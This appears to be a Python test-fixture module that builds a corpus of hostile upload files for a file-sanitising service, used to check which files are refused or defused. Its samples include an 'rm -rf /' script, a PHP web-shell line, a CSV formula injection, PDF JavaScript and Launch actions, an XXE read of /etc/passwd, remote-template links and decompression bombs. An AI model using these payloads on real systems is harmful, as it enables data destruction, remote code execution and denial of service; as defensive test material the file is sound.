"""A corpus of hostile files, made anew each time: no such file lies in the repository.

Each is a name, a content and what may become of it: ``refused``, or ``tamed`` (kept, but
without what made it dangerous), or ``inert`` (kept, and harmless as we serve it).
"""

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

from xaso.kernel.files.testing import a_pdf, pdf_of

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
WORD = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"}
PROGRAMS = {
    "windows": b"MZ\x90\0" + bytes(200),
    "linux": b"\x7fELF\2\1\1" + bytes(200),
    "java": b"\xca\xfe\xba\xbe" + bytes(200),
    "shortcut": b"L\0\0\0\x01\x14\x02\0" + bytes(200),
    "shell": b"#!/bin/sh\nrm -rf /\n\0",
    "rar": b"Rar!\x1a\x07\0" + bytes(200),
    "seven": b"7z\xbc\xaf\x27\x1c" + bytes(200),
    "gzip": gzip.compress(bytes(100_000)),
    "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "flash": b"FWS\x05" + bytes(100),
    "cabinet": b"MSCF" + bytes(100),
    "gif": b"GIF89a" + bytes(100),
    "bmp": b"BM" + bytes(100),
    "mp4": b"\0\0\0\x18ftypisom\0\0\0\0isommp42" + bytes(40),
    "sqlite": b"SQLite format 3\0" + bytes(100),
}
ENDINGS = ("pdf", "docx", "jpg", "png", "txt", "")
MARK = b"<script>evil()</script>"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file of the corpus."""

    kind: str
    name: str
    content: bytes
    fate: str


def corpus() -> list[Hostile]:
    """Return all of it."""
    makers = (programs, names, pdfs, bombs, polyglots, archives, texts, pictures, damaged)
    return [one for make in makers for one in make()]


def programs() -> Iterator[Hostile]:
    """Programs and archives under innocent names."""
    for kind, content in PROGRAMS.items():
        for ending in ENDINGS:
            yield Hostile(
                f"program {kind}", f"tờ khai.{ending}".rstrip("."), content, "refused"
            )


def names() -> Iterator[Hostile]:
    """Names that deceive or climb; the content is sound, so it is kept under a plain name."""
    for name in (
        "../../../etc/passwd.pdf", "..\\..\\windows\\system32\\x.pdf", "/etc/cron.d/x.pdf",
        "C:\\autoexec.pdf", "a\0.pdf", "tờ khai\u202efdp.pdf", "\u2066x\u2069.pdf", "CON.pdf",
        "nul.pdf", "a" * 300 + ".pdf", "ộ" * 200 + ".pdf", ".htaccess.pdf", "a\r\nSet-Cookie: x.pdf",
        'a"; filename="b.pdf', "%2e%2e%2fx.pdf", "đơn.pdf ", "đơn.pdf.", "рарег.pdf", "\ufeffđơn.pdf",
        "đơn\u200b.pdf", "<img src=x>.pdf", "a|b.pdf", "\u202e", "", ".", "..", "đơn\t.pdf", "🙂.pdf",
    ):  # fmt: skip
        yield Hostile("name", name, a_pdf(repr(name)), "inert")
    for name in (
        "tờ khai.pdf.exe",
        "tờ khai.pdf.js",
        "x.pdf.scr",
        "fdp\u202e.exe",
        "a.pdf\u200b.exe",
        "a.html",
        "a.svg",
    ):
        yield Hostile("name", name, a_pdf(name), "refused")


def pdfs() -> Iterator[Hostile]:
    """Documents that do something when they are opened, plainly and in disguise."""
    action = "<< /S /{0} /JS (app.alert) /F (cmd.exe) /D (x) >>"
    kinds = (
        "JavaScript",
        "Launch",
        "SubmitForm",
        "ImportData",
        "GoToE",
        "GoToR",
        "Rendition",
        "Movie",
        "Sound",
        "J#61vaScript",
        "#4caunch",
    )
    places = (
        ("/OpenAction {0}", ""), ("/AA << /WC {0} >>", ""), ("/Names << /JavaScript << /Names [(a) {0}] >> >>", ""),
        ("", "/AA << /O {0} >>"), ("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {0} >>]"),
        ("/OpenAction << /S /URI /URI (https://example.vn) /Next {0} >>", ""),
    )  # fmt: skip
    for kind in kinds:
        for catalogue, page in places:
            does = action.format(kind)
            yield Hostile(
                f"pdf {kind}",
                "đơn.pdf",
                pdf_of(
                    f"<< /Type /Catalog /Pages 2 0 R {catalogue.format(does)} >>",
                    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] {page.format(does)} >>",
                ),
                "tamed",
            )
    for packed in (True, False):
        mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
        for name, content in (
            ("x.exe", b"MZ"),
            ("x.pdf.js", b"evil()"),
            ("a.html", MARK),
            ("a.zip", b"PK\3\4"),
        ):
            pdf, out = pikepdf.new(), io.BytesIO()
            pdf.add_blank_page()
            pdf.attachments[name] = content + bytes(20)
            pdf.save(out, object_stream_mode=mode)
            yield Hostile("pdf attachment", "đơn.pdf", out.getvalue(), "tamed")
    for key in ("XFA",):
        yield Hostile(
            "pdf form",
            "đơn.pdf",
            pdf_of(
                f"<< /Type /Catalog /Pages 2 0 R /AcroForm << /{key} (x) /Fields [] >> >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
            ),
            "tamed",
        )
    locked, out = pikepdf.new(), io.BytesIO()
    locked.add_blank_page()
    locked.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    yield Hostile("pdf locked", "đơn.pdf", out.getvalue(), "refused")
    deep = "[" * 3000 + "]" * 3000
    yield Hostile("pdf nesting", "đơn.pdf", pdf_of(f"<< /Type /Catalog /Pages 2 0 R /X {deep} >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"), "refused")  # fmt: skip
    yield Hostile("pdf loop", "đơn.pdf", pdf_of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 9 >>"), "refused")  # fmt: skip
    yield Hostile("pdf pages", "đơn.pdf", pdf_of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 999999999 >>"), "refused")  # fmt: skip


def deflated(mebibytes: int) -> bytes:
    """Return so many MiB of nothing, packed: one packed MiB again and again (RFC 1950, 1951)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = packer.compress(bytes(1024 * 1024)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = (mebibytes * 1024 * 1024 % 65521) << 16 | 1
    return b"\x78\xda" + one * mebibytes + b"\3\0" + struct.pack(">I", checksum)


def bombs() -> Iterator[Hostile]:
    """Small files that unpack to what no machine holds."""
    for mebibytes in (900, 5000):
        pdf, out = pikepdf.new(), io.BytesIO()
        pdf.add_blank_page()
        stream = pdf.make_stream(b"")
        stream.write(deflated(mebibytes), filter=Name.FlateDecode)
        tree = Array(["a.txt", Dictionary(F="a.txt", EF=Dictionary(F=stream))])
        pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=tree))
        pdf.save(
            out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none
        )
        yield Hostile("pdf bomb", "bom.pdf", out.getvalue(), "refused")
    for width, height in (
        (30_000, 30_000),
        (65_000, 65_000),
        (1, 2**31 - 1),
        (2**31 - 1, 2**31 - 1),
    ):
        head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
        yield Hostile(
            "png bomb",
            "bom.png",
            png((b"IHDR", head), (b"IDAT", deflated(20)), (b"IEND", b"")),
            "refused",
        )
    yield Hostile("png text bomb", "bom.png", png((b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)), *[(b"zTXt", b"a\0\0" + deflated(60))] * 20, (b"IDAT", zlib.compress(b"\0\0")), (b"IEND", b"")), "any")  # fmt: skip
    for count in (1, 400):
        entries = WORD | {
            f"word/media/{number}.xml": bytes(2_000_000) for number in range(count // 4 + 20)
        }
        yield Hostile("zip bomb", "bom.docx", archive(entries), "refused")
    yield Hostile(
        "zip of many",
        "bom.docx",
        archive(WORD | {f"{n}.txt": "" for n in range(1100)}),
        "refused",
    )
    overlapping = bytearray(archive(WORD | {"a.bin": b"a" * 99, "b.bin": b"a" * 99}))
    at = overlapping.rfind(b"PK\1\2")
    overlapping[at + 42 : at + 46] = bytes(4)
    yield Hostile("zip overlap", "bom.docx", bytes(overlapping), "refused")
    lies = bytearray(archive(WORD))
    at = lies.rfind(b"PK\5\6")
    for entries, size in ((60_000, 100), (2, 2**31)):
        lies[at + 10 : at + 16] = struct.pack("<HI", entries, size)
        yield Hostile("zip lies", "bom.docx", bytes(lies), "refused")
    yield from nested_bombs()


def nested_bombs() -> Iterator[Hostile]:
    """Documents inside documents that multiply what has to be unpacked, and how often."""
    nothing = 19 * 1024 * 1024
    for kind, inner in (
        ("part", backwards(WORD | {"word/media/a.bin": bytes(nothing)} | tiny(900))),
        ("gap", backwards(WORD | tiny(900), gap=nothing)),
    ):
        made = archive(WORD | {"word/embeddings/a.docx": inner})
        yield Hostile(f"zip backwards {kind}", "bom.docx", made, "refused" if kind == "part" else "inert")  # fmt: skip
    swollen = archive(WORD | {f"word/{n}.xml": b"<a>" + b"<b/>" * 250_000 for n in range(19)})
    many = {f"word/embeddings/{n}.docx": swollen for n in range(900)}
    yield Hostile("zip of swollen", "bom.docx", archive(WORD | many), "refused")
    for packing in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        made = archive(WORD | {"word/media/a.bin": bytes(19_000_000)}, packing)
        yield Hostile("zip otherwise packed", "bom.docx", made, "refused")
    wordy = b"<a>" + b"<b/>" * 250_000 + b"</a>"
    noise = {"word/media/a.bin": random.Random(7).randbytes(5_000_000)}  # noqa: S311
    for ending, fate in (("xml", "inert"), ("rels", "refused")):
        made = archive(WORD | noise | {f"word/{n}.{ending}": wordy for n in range(480)})
        yield Hostile(f"zip of wordy {ending}", "bom.docx", made, fate)
    late = b"<!--" + bytes([32]) * 1_100_000 + b'--><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    yield Hostile(
        "zip with late type", "bom.docx", archive(WORD | {"word/a.xml": late}), "refused"
    )


def tiny(count: int) -> dict[str, str | bytes]:
    """Return many parts of next to nothing."""
    return {f"word/media/{number}.bin": b"x" for number in range(count)}


def backwards(entries: dict[str, str | bytes], *, gap: int = 0) -> bytes:
    """Return an unpacked archive that names its parts last to first, a gap behind the first."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as made:
        for number, (name, content) in enumerate(entries.items()):
            made.writestr(name, content)
            if gap and not number:
                out.seek(made.start_dir + gap)
                made.start_dir += gap
        made.filelist.reverse()
    return out.getvalue()


def polyglots() -> Iterator[Hostile]:
    """Files that are two things at once."""
    page = b"<html><body>" + MARK + b"</body></html>"
    packed = archive({"run.class": PROGRAMS["java"]})
    for kind in ("JPEG", "PNG", "WEBP", "TIFF"):
        for tail in (page, packed, PROGRAMS["windows"], EICAR):
            yield Hostile(
                f"polyglot {kind}", f"ảnh.{kind.lower()}", picture(kind) + tail, "tamed"
            )
    for tail in (page * 40, packed * 12, PROGRAMS["windows"] * 12):
        yield Hostile("polyglot pdf", "đơn.pdf", a_pdf() + tail, "tamed")
    for front in (page, packed, b"MZ", b"\n", b" " * 900, picture("JPEG")):
        yield Hostile("polyglot front", "đơn.pdf", front + a_pdf(), "refused")
    yield Hostile("polyglot comment", "ảnh.jpg", picture("JPEG", comment=MARK), "tamed")
    exif = Image.Exif()
    exif[0x010E] = MARK.decode()
    yield Hostile("polyglot exif", "ảnh.jpg", picture("JPEG", exif=exif), "tamed")
    yield Hostile("polyglot text", "ảnh.png", png((b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)), (b"tEXt", b"a\0" + MARK), (b"IDAT", zlib.compress(b"\0\0")), (b"IEND", b"")), "tamed")  # fmt: skip


def archives() -> Iterator[Hostile]:
    """Office documents with macros, programs, other archives, entities, remote templates."""
    inner = archive({"a.exe": PROGRAMS["windows"]})
    nested = archive(WORD)
    for _ in range(4):
        nested = archive(WORD | {"word/embeddings/a.docx": nested})
    bad = {
        "word/vbaProject.bin": b"x", "word/VBAPROJECT.BIN": b"x", "Basic/a.xml": "<a/>",
        "Scripts/a.py": "x", "word/a.exe": PROGRAMS["windows"], "word/a.bin": PROGRAMS["linux"],
        "word/a.zip": inner, "word/a.rar": PROGRAMS["rar"], "word/embeddings/a.docx": nested,
        "word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
        "word/b.xml": '<?xml version="1.0"?><!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
        "word/c.xml": "<a", "word/_rels/settings.xml.rels": relation("attachedTemplate"),
        "word/_rels/document.xml.rels": relation("oleObject"), "_rels/.rels": relation("frame"),
        "[Content_Types].xml": "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>",
        "word/_rels/x.rels": "<a>" + "x" * 1_200_000 + "</a>",
    }  # fmt: skip
    for name, content in bad.items():
        made = archive(WORD | {name: content})
        yield Hostile(
            f"office {name[:30]}",
            "đơn.docx",
            made,
            "refused" if not name.endswith("c.xml") else "any",
        )
        yield Hostile(f"office {name[:30]} as xlsx", "đơn.xlsx", made, "refused")
    for name in ("../../x.xml", "/etc/x.xml", "C:\\x.xml"):
        yield Hostile("office path", "đơn.docx", archive(WORD | {name: "<a/>"}), "inert")


def texts() -> Iterator[Hostile]:
    """Pages, scripts and pictures made of text: kept as plain text only, if at all."""
    for content in (
        MARK, b"<svg xmlns='http://www.w3.org/2000/svg' onload='evil()'/>", EICAR,
        b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>", b"#!/bin/sh\nrm -rf /\n",
        b"=cmd|' /C calc'!A0", b"MIME-Version: 1.0\n\n--x", b"<?php system($_GET[0]); ?>",
    ):  # fmt: skip
        yield Hostile("text", "ghi chú.txt", content, "inert")
        for ending in ("html", "svg", "js", "xml", "hta", "csv", "md"):
            yield Hostile("text", f"ghi chú.{ending}", content, "refused")
    yield Hostile("text empty", "a.txt", b"", "refused")
    yield Hostile("text utf-16", "a.txt", MARK.decode().encode("utf-16"), "refused")
    yield Hostile("text utf-7", "a.txt", b"+ADw-script+AD4-evil()", "inert")


def pictures() -> Iterator[Hostile]:
    """Pictures with broken insides that break careless readers."""
    sound = picture("TIFF")
    for at in (4, 8, 10, 12, 16, 20):
        broken = bytearray(sound)
        broken[at : at + 4] = b"\xff\xff\xff\x7f"
        yield Hostile("tiff offsets", "quét.tif", bytes(broken), "any")
    loop = b"II*\0\x08\0\0\0" + struct.pack("<H", 0) + struct.pack("<I", 8)
    yield Hostile("tiff loop", "quét.tif", loop, "refused")
    frames = [Image.new("1", (4, 4)) for _ in range(300)]
    out = io.BytesIO()
    frames[0].save(out, "TIFF", save_all=True, append_images=frames[1:])
    yield Hostile("tiff pages", "quét.tif", out.getvalue(), "refused")


def damaged() -> Iterator[Hostile]:
    """Good files cut, spliced, flipped and padded, always the same ones."""
    chance = random.Random(20261122)  # noqa: S311
    good = [
        ("đơn.pdf", a_pdf("x" * 400)),
        ("đơn.docx", archive(WORD | {"a.xml": "<a>" + "b" * 500 + "</a>"})),
    ]
    good += [(f"ảnh.{kind.lower()}", picture(kind)) for kind in ("JPEG", "PNG", "WEBP", "TIFF")]
    for number in range(60):
        name, content = chance.choice(good)
        broken = bytearray(content)
        at = chance.randrange(len(broken))
        if number % 3 == 0:
            del broken[at:]
        elif number % 3 == 1:
            broken[at:at] = chance.randbytes(chance.randrange(1, 4000))
        else:
            for _ in range(chance.randrange(1, 30)):
                broken[chance.randrange(len(broken))] ^= 1 << chance.randrange(8)
        yield Hostile("damaged", name, bytes(broken), "any")


def archive(entries: dict[str, str | bytes], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a ZIP archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as made:
        for name, content in entries.items():
            made.writestr(name, content)
    return out.getvalue()


def relation(kind: str) -> str:
    """Return a part that makes a document fetch something from elsewhere."""
    types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<R><Relationship Type="{types}/{kind}" Target="http://x.example/a.dotm" TargetMode="External"/></R>'


def picture(kind: str, **options: object) -> bytes:
    """Return a small picture."""
    out = io.BytesIO()
    Image.linear_gradient("L").resize((40, 30)).convert("RGB").save(out, kind, **options)
    return out.getvalue()


def png(*chunks: tuple[bytes, bytes]) -> bytes:
    """Return a PNG of these chunks."""
    made = b"\x89PNG\r\n\x1a\n"
    for kind, content in chunks:
        made += struct.pack(">I", len(content)) + kind + content
        made += struct.pack(">I", zlib.crc32(kind + content))
    return made
